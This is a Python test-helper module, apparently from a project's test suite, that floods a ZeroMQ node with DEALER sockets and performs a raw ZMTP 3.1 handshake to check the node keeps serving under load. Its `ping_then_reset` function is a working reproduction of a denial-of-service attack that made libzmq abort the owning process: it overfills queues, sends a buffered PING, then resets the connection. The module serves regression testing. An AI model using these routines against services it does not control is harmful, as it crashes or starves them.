"""A flood of ZeroMQ messages from one process, for the tests that check a node keeps serving a
good client under it: DEALER sockets sending what they can without blocking and dropping every
answer. Run in a child process (`python -c`, the repository as its working directory)."""
from __future__ import annotations

import time

import zmq


def flood(address: str, messages: list[list[bytes]], seconds: float, sockets: int = 2,
          sndhwm: int | None = None) -> float:
    """Send `messages` in turn (multipart frames) from `sockets` DEALERs connected to `address`
    for `seconds`; returns the messages sent per second."""
    ctx = zmq.Context()
    socks = [ctx.socket(zmq.DEALER) for _ in range(sockets)]
    for s in socks:
        s.setsockopt(zmq.LINGER, 0)
        if sndhwm is not None:
            s.setsockopt(zmq.SNDHWM, sndhwm)
        s.connect(address)
    sent, i, end = 0, 0, time.monotonic() + seconds
    while time.monotonic() < end:
        for s in socks:
            try:
                s.send_multipart(messages[i % len(messages)], zmq.NOBLOCK)
                sent += 1
            except zmq.Again:
                pass
            i += 1
            while True:
                try:
                    s.recv(zmq.NOBLOCK)
                except zmq.Again:
                    break
    ctx.destroy(linger=0)
    return sent / seconds


def flood_then_close(address: str, messages: list[list[bytes]], sockets: int, close_after: tuple[float, float],
                     handshake_s: float = 5.0) -> int:
    """Flood from `sockets` DEALERs, socket i closing (at once, dropping what it did not read)
    `close_after[0] + i * step` s after its own ZeroMQ handshake, the times spread evenly up to
    `close_after[1]`; returns the messages sent. A socket that sends faster than the node reads
    fills its queue there, so each closes while the node has stopped reading it."""
    from zmq.utils.monitor import recv_monitor_message

    ctx = zmq.Context()
    lo, hi = close_after
    live: list[tuple[zmq.Socket, float]] = []
    for i in range(sockets):
        s = ctx.socket(zmq.DEALER)
        s.setsockopt(zmq.LINGER, 0)
        monitor = s.get_monitor_socket(zmq.EVENT_HANDSHAKE_SUCCEEDED)
        s.connect(address)
        if not monitor.poll(int(handshake_s * 1000)):
            raise TimeoutError(f"no ZeroMQ handshake with {address} within {handshake_s} s")
        recv_monitor_message(monitor)
        s.disable_monitor()
        monitor.close(linger=0)
        live.append((s, time.monotonic() + lo + (hi - lo) * i / max(sockets - 1, 1)))
    sent, i = 0, 0
    while live:
        now = time.monotonic()
        for entry in list(live):
            s, close_at = entry
            if now >= close_at:
                s.close(linger=0)
                live.remove(entry)
                continue
            try:
                s.send_multipart(messages[i % len(messages)], zmq.NOBLOCK)
                sent += 1
            except zmq.Again:
                pass
            i += 1
    ctx.destroy(linger=0)
    return sent


def _zmtp_command(body: bytes) -> bytes:
    """A ZMTP 3.1 command frame (short form)."""
    return bytes([0x04, len(body)]) + body


def zmtp_connect(port: int, host: str = "127.0.0.1", socket_type: bytes = b"DEALER", timeout: float = 5.0):
    """A raw TCP connection that has done ZMTP 3.1's NULL handshake as a `socket_type` socket:
    what any program can send a node's port, with no libzmq of its own in the way."""
    import socket
    import struct

    s = socket.create_connection((host, port), timeout=timeout)
    s.sendall(b"\xff" + bytes(8) + b"\x7f" + bytes([3, 1]) + b"NULL".ljust(20, b"\0") + b"\0" + bytes(31))
    greeting = b""
    while len(greeting) < 64:
        chunk = s.recv(64 - len(greeting))
        if not chunk:
            raise ConnectionError(f"{host}:{port} closed the connection during the ZMTP greeting")
        greeting += chunk
    name = b"Socket-Type"
    s.sendall(_zmtp_command(b"\x05READY" + bytes([len(name)]) + name + struct.pack(">I", len(socket_type))
                            + socket_type))
    return s


def ping_then_reset(port: int, connections: int = 8, messages: int = 1200, reset_after: float = 0.05,
                    socket_type: bytes = b"DEALER") -> None:
    """The attack that made libzmq abort the process that owns a socket (`!_io_error`): each of
    `connections` raw ZMTP connections sends more one-byte messages than the socket's receive
    high-water mark (1,000) takes, so libzmq stops reading it with the rest buffered, then a
    PING command, and resets the connection (RST) `reset_after` s later; when the owner later
    drains that queue, libzmq answers the buffered PING on the failed connection. Several
    connections at once keep every queue above its low-water mark until the resets, however
    fast the owner reads."""
    import socket
    import struct
    import time

    socks = [zmtp_connect(port, socket_type=socket_type) for _ in range(connections)]
    time.sleep(0.2)  # every handshake done on the other side
    burst = b"".join(b"\x00\x01a" for _ in range(messages)) + _zmtp_command(b"\x04PING" + struct.pack(">H", 0) + b"ctx")
    for s in socks:
        s.sendall(burst)
    time.sleep(reset_after)
    for s in socks:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # close() sends RST
        s.close()
